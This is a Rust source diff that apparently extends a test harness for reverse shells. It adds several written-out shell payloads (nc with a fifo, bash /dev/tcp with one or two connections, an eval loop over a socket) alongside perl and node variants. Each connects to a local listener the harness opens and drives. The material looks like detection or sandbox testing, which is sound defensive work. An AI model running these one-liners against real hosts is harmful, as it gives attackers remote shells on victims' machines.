@@ -6,7 +6,7 @@ use std::{
     io::{ErrorKind, Read, Write},
     net::{TcpStream, UdpSocket},
     path::Path,
-    process::{Child, ChildStdin, ChildStdout, Command, Stdio},
+    process::{Child, Command, Stdio},
     time::Duration,
 };
 
@@ -22,6 +22,8 @@ use serde_json::Value;
 enum Far {
     /// It waits for TCP.
     Waits(Peer),
+    /// The same, for a connection to hear and one to speak.
+    WaitsForTwo(Peer),
     /// It waits for datagrams.
     Datagrams(UdpSocket),
     /// It waits behind TLS: a child that speaks it, and its input and output.
@@ -77,6 +79,13 @@ while True:
     Attack { name: "perl with two pipes", far: tcp, script: "exec perl -MIPC::Open2 -MIO::Socket -e '$s=IO::Socket::INET->new(\"127.0.0.1:PORT\");
 open2($o,$i,\"/bin/sh\",\"-i\"); if(fork){while(sysread($s,$b,4096)){syswrite($i,$b)}}else{while(sysread($o,$b,4096)){syswrite($s,$b)}}'" },
     Attack { name: "node with pipes", far: tcp, script: "exec node -e \"const s=require('net').connect(PORT,'127.0.0.1'),c=require('child_process').spawn('/bin/sh');s.pipe(c.stdin);c.stdout.pipe(s);c.on('exit',()=>process.exit())\"" },
+    Attack { name: "a fifo and nc, as a script", far: tcp, script: "mkfifo DIR/f; nc.openbsd 127.0.0.1 PORT <DIR/f | bash /dev/stdin >DIR/f 2>&1" },
+    Attack { name: "two connections", far: two, script: "exec 3<>/dev/tcp/127.0.0.1/PORT 4<>/dev/tcp/127.0.0.1/PORT; exec sh -i <&3 >&4 2>&4" },
+    Attack { name: "a pipe as a script", far: two, script: "bash <(nc.openbsd -d 127.0.0.1 PORT) 2>&1 | (sleep 1; exec nc.openbsd 127.0.0.1 PORT)" },
+    Attack { name: "a connection in, a pipe out", far: tcp, script: "exec 3<>/dev/tcp/127.0.0.1/PORT; sh -i <&3 2>&1 | cat >&3" },
+    Attack { name: "bash, output later", far: tcp, script: "exec 3<>/dev/tcp/127.0.0.1/PORT; exec bash <&3 >/dev/null 2>&1" },
+    Attack { name: "dash, output later", far: tcp, script: "exec 3<>/dev/tcp/127.0.0.1/PORT; exec sh <&3 >/dev/null 2>&1" },
+    Attack { name: "lines by number, own answers", far: tcp, script: "exec 5<>/dev/tcp/127.0.0.1/PORT; while read -r -u5 l; do [ \"$l\" = exit ] && break; eval \"$l\" >&5 2>&1; done" },
     Attack { name: "stages that are many seconds apart", far: tcp, script: "exec 3<>/dev/tcp/127.0.0.1/PORT; sleep 12; exec 1>&3; sleep 10; exec 0<&3 2>&3; exec bash" },
 ];
 
@@ -84,6 +93,13 @@ fn tcp(_: &Bed) -> (Far, u16) {
     let peer = Peer::listen("127.0.0.1");
     let port = peer.address().port();
     (Far::Waits(peer), port)
+}
+
+fn two(bed: &Bed) -> (Far, u16) {
+    match tcp(bed) {
+        (Far::Waits(peer), port) => (Far::WaitsForTwo(peer), port),
+        other => other,
+    }
 }
 
 fn udp(_: &Bed) -> (Far, u16) {
@@ -160,15 +176,15 @@ impl Write for Datagrams {
     }
 }
 
-struct Both(ChildStdout, ChildStdin);
+struct Both<R, W>(R, W);
 
-impl Read for Both {
+impl<R: Read, W> Read for Both<R, W> {
     fn read(&mut self, to: &mut [u8]) -> std::io::Result<usize> {
         self.0.read(to)
     }
 }
 
-impl Write for Both {
+impl<R, W: Write> Write for Both<R, W> {
     fn write(&mut self, from: &[u8]) -> std::io::Result<usize> {
         self.1.write(from)
     }
@@ -182,6 +198,10 @@ impl Write for Both {
 fn answer(far: Far) -> (Box<dyn Line>, Option<Child>) {
     match far {
         Far::Waits(peer) => (Box::new(peer.accept()), None),
+        Far::WaitsForTwo(peer) => {
+            let to_shell = peer.accept();
+            (Box::new(Both(peer.accept(), to_shell)), None)
+        }
         Far::Datagrams(socket) => {
             socket.set_read_timeout(Some(PATIENCE)).unwrap();
             let (_, from) = socket.recv_from(&mut [0; 64]).unwrap();
@@ -228,6 +248,9 @@ fn talk(name: &str, line: &mut dyn Line) -> u32 {
     };
     // Its own commands are one word or two; the quotes keep an echo from looking like the answer.
     let ask = if name == "a shell of its own" { "pid\n" } else { "echo pid''=$$.\n" };
+    if name.ends_with("output later") {
+        say("exec >&3 2>&3\n", line);
+    }
     say(ask, line);
     let pid = hear_pid(name, line);
     for _ in 0..3 {
